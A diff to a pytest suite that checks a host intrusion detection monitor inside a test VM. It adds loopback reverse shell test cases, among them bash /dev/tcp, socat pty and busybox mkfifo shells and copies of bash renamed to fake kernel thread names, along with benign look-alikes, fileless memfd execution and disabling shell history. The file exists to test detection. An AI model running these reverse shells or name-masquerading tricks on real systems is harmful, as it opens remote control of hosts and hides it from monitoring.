@@ -16,30 +16,26 @@ def svc(guest, tmp_path_factory):
     s.stop()
 
 
-def alerts(svc, name, since):
-    svc.poll()
-    return [m for m in svc.messages[since:] if m["activity_data"]["name"] == name]
-
-
 def run_case(guest, svc, setup, attack, cleanup, seconds=4):
-    """Returns the Reverse Shell alerts raised while `attack` runs.  Each
-    command runs in its own session (setsid): cleanup kills the groups."""
+    """Runs `attack` (after `setup`) for `seconds`; returns where the case
+    started in the service's messages.  Each command runs in its own
+    session (setsid): cleanup kills the groups."""
     groups = []
     if setup:
         groups.append(guest.spawn(setup))
         time.sleep(1)
-    svc.poll()
-    since = len(svc.messages)
+    since = svc.mark()
     groups.append(guest.spawn(attack))
     time.sleep(seconds)
-    found = alerts(svc, "Reverse Shell Detected", since)
     guest.run("; ".join(f"kill -9 -{g}" for g in groups) + "; " + cleanup)
-    time.sleep(1)
-    return found
+    return since
 
 
 LISTEN = "sleep 1000 | socat TCP-LISTEN:{port},reuseaddr -"
+# a listener that sends the shell a command that runs another program
+LISTEN_CMD = "(echo 'sleep 60'; sleep 1000) | socat TCP-LISTEN:{port},reuseaddr -"
 
+# case: (setup, attack, the shell's process_name in the alert)
 ATTACKS = {
     "bash /dev/tcp": (LISTEN.format(port=4444),
                       "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'", "bash"),
@@ -50,23 +46,46 @@ ATTACKS = {
                    "sleep 1; socat TCP:127.0.0.1:4446 UNIX-CONNECT:/tmp/rs.sock", "sh"),
     "pty shell": (LISTEN.format(port=4447),
                   "socat exec:'bash -li',pty,stderr,setsid tcp:127.0.0.1:4447", "bash"),
+    # a copy of bash under a harmless name: known by its content
+    "renamed bash": (LISTEN.format(port=4451),
+                     "cp /bin/bash /tmp/kworkr; "
+                     "/tmp/kworkr -c 'exec /tmp/kworkr -i >& /dev/tcp/127.0.0.1/4451 0>&1'",
+                     "kworkr"),
+    # bash that renames itself (as prctl(PR_SET_NAME) does) before it
+    # connects: known by its executable, not its comm
+    "comm-renamed bash": (LISTEN.format(port=4452),
+                          "bash -c 'printf kswapd1 >/proc/$$/comm; "
+                          "exec 0<>/dev/tcp/127.0.0.1/4452 1>&0 2>&0; "
+                          "while read -r l; do eval \"$l\"; done'", "kswapd1"),
+    # busybox's shell called as busybox: the process is named busybox
+    "busybox sh": (LISTEN.format(port=4453),
+                   "rm -f /tmp/rsb; mkfifo /tmp/rsb; "
+                   "busybox sh -i </tmp/rsb 2>&1 | socat - TCP:127.0.0.1:4453 >/tmp/rsb", "busybox"),
+    # bash with a byte appended: neither its name nor its content is a
+    # known shell's, but it starts the programs it is sent
+    "unknown interpreter": (LISTEN_CMD.format(port=4454),
+                            "cat /bin/bash >/tmp/kthreadd; echo >>/tmp/kthreadd; "
+                            "chmod +x /tmp/kthreadd; "
+                            "/tmp/kthreadd -c 'exec /tmp/kthreadd >& /dev/tcp/127.0.0.1/4454 0>&1'",
+                            "kthreadd"),
 }
 
-CLEANUP = "rm -f /tmp/rsp /tmp/rs.sock; true"
+CLEANUP = "rm -f /tmp/rsp /tmp/rsb /tmp/rs.sock /tmp/kworkr /tmp/kthreadd; true"
+PORTS = (4444, 4445, 4446, 4447, 4451, 4452, 4453, 4454)
 
 
 @pytest.mark.parametrize("case", list(ATTACKS))
 def test_reverse_shell(guest, svc, case):
     setup, attack, shell = ATTACKS[case]
-    found = run_case(guest, svc, setup, attack, CLEANUP)
-    assert len(found) == 1, f"{case}: {len(found)} Reverse Shell Detected alerts"
+    since = run_case(guest, svc, setup, attack, CLEANUP)
+    found = svc.expect_alerts(since, ("Reverse Shell Detected", None, 1))["Reverse Shell Detected"]
     m = found[0]
     assert m["message_type"] == "ALERT" and m["severity"] == "HIGH"
     chain = m["activity_data"]["process_list"]
     assert chain[0]["process_details"]["process_name"] == shell
     assert "file_descriptor_list" in chain[0]["process_details"]
     nets = [n for p in chain for n in p["process_details"]["network_connection_list"]]
-    assert any(n["network_connection_details"]["destination_port"] in (4444, 4445, 4446, 4447)
+    assert any(n["network_connection_details"]["destination_port"] in PORTS
                for n in nets), chain
     print(f"{case}: chain of {len(chain)} processes")
 
@@ -78,14 +97,24 @@ LOOKALIKES = {
     "interactive bash on the console": (None, "exec bash -i </dev/ttyS0 >/dev/ttyS0 2>&1"),
     "daemon serving its children": ("socat TCP-LISTEN:4449,reuseaddr,fork EXEC:'sh -c cat'",
                                     "sleep 100 | socat - TCP:127.0.0.1:4449"),
+    # a one-shot listener serving a shell: a bind shell, not a reverse one
+    "served shell, listener closed": ("socat TCP-LISTEN:4458,reuseaddr EXEC:'sh -i',stderr",
+                                      "sleep 100 | socat - TCP:127.0.0.1:4458"),
+    "relay to cat": (LISTEN_CMD.format(port=4455), "socat TCP:127.0.0.1:4455 EXEC:cat"),
+    "relay to sleep": (LISTEN_CMD.format(port=4456), "socat TCP:127.0.0.1:4456 EXEC:'sleep 100'"),
+    # busybox under another name, running cat: busybox's content, not a shell applet
+    "relay to a renamed cat": (LISTEN_CMD.format(port=4457),
+                               "cp /bin/busybox /tmp/busybox-x; "
+                               "socat TCP:127.0.0.1:4457 EXEC:'/tmp/busybox-x cat'"),
 }
 
 
 @pytest.mark.parametrize("case", list(LOOKALIKES))
 def test_reverse_shell_lookalikes(guest, svc, case):
     setup, action = LOOKALIKES[case]
-    found = run_case(guest, svc, setup, action, CLEANUP + "; rm -f /tmp/relay.out")
-    assert not found, f"{case}: raised {len(found)} Reverse Shell Detected"
+    since = run_case(guest, svc, setup, action,
+                     CLEANUP + "; rm -f /tmp/relay.out /tmp/busybox-x")
+    svc.expect_alerts(since)
 
 
 def wait_alert(svc, name, pred, timeout):
@@ -105,6 +134,7 @@ def pid_is(pid):
     ("mprotect", "Executable Permissions Removed", "ALERT", "MEDIUM"),
 ])
 def test_executable_memory(guest, svc, mode, name, mtype, sev):
+    since = svc.mark()
     pid = guest.spawn(f"exec memory {mode} 2")
     found = wait_alert(svc, name, pid_is(pid), timeout=12)
     guest.run(f"kill {pid}")
@@ -112,17 +142,81 @@ def test_executable_memory(guest, svc, mode, name, mtype, sev):
     assert found[0]["message_type"] == mtype and found[0]["severity"] == sev
     v = found[0]["activity_data"]["process_memory_details"]
     assert "x" in v["memory_permissions"] or name.endswith("Removed")
+    if mode == "mprotect":
+        other = ("Executable Permissions Removed" if name.endswith("Added")
+                 else "Executable Permissions Added")
+        svc.expect_alerts(since, (name, pid_is(pid), 1), (other, pid_is(pid), None))
+    else:
+        svc.expect_alerts(since)
+        svc.poll()
+        assert len([m for m in svc.messages[since:] if m["activity_data"]["name"] == name and
+                    pid_is(pid)(m["activity_data"])]) == 1
+
+
+def exec_anon(svc, since, pid):
+    svc.poll()
+    return [m["activity_data"] for m in svc.messages[since:]
+            if m["activity_data"]["name"] == "New Executable Anonymous Memory Mapped" and
+            pid_is(pid)(m["activity_data"])]
+
+
+def test_fileless_process_first_sight(guest, svc):
+    """A process that runs from a memfd from its first instant: what argus
+    first sees of it counts."""
+    since = svc.mark()
+    pid = guest.spawn("exec memory fexecve 30")
+    svc.wait_for(lambda m: m["activity_data"]["name"] == "New Executable Anonymous Memory Mapped"
+                 and pid_is(pid)(m["activity_data"]), timeout=10)
+    time.sleep(2)   # more scans: once, not once a scan
+    found = exec_anon(svc, since, pid)
+    guest.run(f"kill {pid}")
+    assert len(found) == 1, found
+    assert found[0]["process_details"]["process_executable_path"].startswith("/memfd:payload")
+    assert "x" in found[0]["process_memory_details"]["memory_permissions"]
+    svc.expect_alerts(since)
 
 
 def test_no_exec_memory_alert_on_plain_file_mapping(guest, svc):
+    """A file mapped executable is not fileless; the kernel's own mappings
+    ([vdso]) of new processes are not either."""
+    since = svc.mark()
     pid = guest.spawn("exec memory file 2")
     time.sleep(7)
     guest.run(f"kill {pid}")
     svc.poll()
-    bad = [m for m in svc.messages if pid_is(pid)(m["activity_data"]) and
+    created = [m for m in svc.messages[since:] if m["activity_data"]["name"] == "Process Created"]
+    assert any(pid_is(pid)(m["activity_data"]) for m in created)
+    bad = [m for m in svc.messages[since:] if
            m["activity_data"]["name"] in ("New Executable Anonymous Memory Mapped",
                                           "Executable Permissions Added")]
-    assert not bad
+    assert not bad, bad
+    svc.expect_alerts(since)
+
+
+def test_open_files_at_first_sight(guest, svc):
+    """A process born with a file open (inherited across fork) gives File
+    Descriptor Open at its first sighting, as if it had opened it later."""
+    since = svc.mark()
+    grp = guest.spawn("exec 7</etc/passwd; sleep 2; memory sleep 30 & echo $! >/tmp/fdpid; wait")
+    time.sleep(3)
+    pid = int(guest.check("cat /tmp/fdpid").strip())
+    opened = svc.wait_for(lambda m: m["activity_data"]["name"] == "File Descriptor Open" and
+                          pid_is(pid)(m["activity_data"]) and
+                          m["activity_data"]["file_descriptor_details"]
+                          ["file_descriptor_index"] == 7, timeout=10)
+    time.sleep(1)
+    guest.run(f"kill -9 -{grp}; rm -f /tmp/fdpid")
+    assert len(opened) == 1, opened
+    fd = opened[0]["activity_data"]["file_descriptor_details"]
+    assert fd["file_descriptor_name"] == "/etc/passwd"
+    svc.expect_alerts(since)
+
+
+def on_port(port):
+    def pred(a):
+        n = a.get("network_connection_details", {})
+        return port in (n.get("source_port"), n.get("destination_port"))
+    return pred
 
 
 def test_tcp_thresholds(guest, tmp_path):
@@ -130,30 +224,44 @@ def test_tcp_thresholds(guest, tmp_path):
                 collection="  tcp_connection_excessive_data:\n    bytes_in: 1MB\n    bytes_out: 1GB\n"
                            "  tcp_long_lasting_connection:\n    duration: 3s\n")
     try:
+        since = s.mark()
         srv = guest.spawn("socat TCP-LISTEN:4450,reuseaddr SYSTEM:'cat >/dev/null'")
-        time.sleep(1)
+        time.sleep(4)   # a listener older than the threshold: a port, not a connection
         # a client that sends a few MiB and stays: excessive data out of
         # the server's view is data *in*
         cli = guest.spawn("(head -c 4000000 /dev/zero; sleep 20) | socat - TCP:127.0.0.1:4450")
         ex = s.wait_for(lambda m: m["activity_data"]["name"] == "TCP Connection Excessive Data",
                         timeout=15)
-        ll = s.wait_for(lambda m: m["activity_data"]["name"] == "TCP Long-Lasting Connection",
-                        timeout=15)
+        ll = s.wait_for(lambda m: m["activity_data"]["name"] == "TCP Long-Lasting Connection"
+                        and on_port(4450)(m["activity_data"]), timeout=15, count=2)
         assert len(ex) == 1, f"{len(ex)} Excessive Data alerts"
         assert ex[0]["severity"] == "LOW" and ex[0]["message_type"] == "ALERT"
         assert ex[0]["activity_data"]["network_connection_details"]["tcp_bytes_in"] > 1 << 20
-        assert len(ll) >= 1 and ll[0]["severity"] == "LOW"
-        # once per connection, not once per scan
+        assert ll and ll[0]["severity"] == "LOW"
+        # once per connection (its two ends), not once per scan, and never
+        # for the listener; connections other tests left behind may be old
         time.sleep(3)
-        s.poll()
-        assert len([m for m in s.messages
-                    if m["activity_data"]["name"] == "TCP Connection Excessive Data"]) == 1
+        found = s.expect_alerts(
+            since, ("TCP Connection Excessive Data", on_port(4450), 1),
+            ("TCP Long-Lasting Connection", on_port(4450), 2),
+            ("TCP Long-Lasting Connection", lambda a: not on_port(4450)(a), None))
+        for m in found["TCP Long-Lasting Connection"]:
+            assert m["activity_data"]["network_connection_details"]["connection_state"] != "LISTEN"
+        guest.run(f"kill -9 -{srv} -{cli}")
+        # a new connection on the same port is new: not long-lasting at once
+        since = s.mark()
+        srv = guest.spawn("socat TCP-LISTEN:4450,reuseaddr SYSTEM:'cat >/dev/null'")
+        time.sleep(1)
+        cli = guest.spawn("sleep 2 | socat - TCP:127.0.0.1:4450")
+        time.sleep(1.5)
+        s.expect_alerts(since, ("TCP Long-Lasting Connection", lambda a: not on_port(4450)(a), None))
         guest.run(f"kill -9 -{srv} -{cli}")
     finally:
         s.stop()
 
 
 def test_shell_history_alerts(guest, svc):
+    since = svc.mark()
     guest.check("rm -f /tmp/hf; mkfifo /tmp/hf")
     sh = guest.spawn("exec bash -i </tmp/hf >/dev/null 2>&1")
     holder = guest.spawn("exec sleep 100 >/tmp/hf")
@@ -167,5 +275,7 @@ def test_shell_history_alerts(guest, svc):
         guest.check("echo 'HISTFILE=/dev/null' >/tmp/hf")
         ds = wait_alert(svc, "Shell History Disabled", pid_is(sh), timeout=6)
         assert len(ds) == 1 and ds[0]["severity"] == "HIGH"
+        svc.expect_alerts(since, ("Shell History Cleared", pid_is(sh), 1),
+                          ("Shell History Disabled", pid_is(sh), 1))
     finally:
         guest.run(f"kill {holder} {sh}")
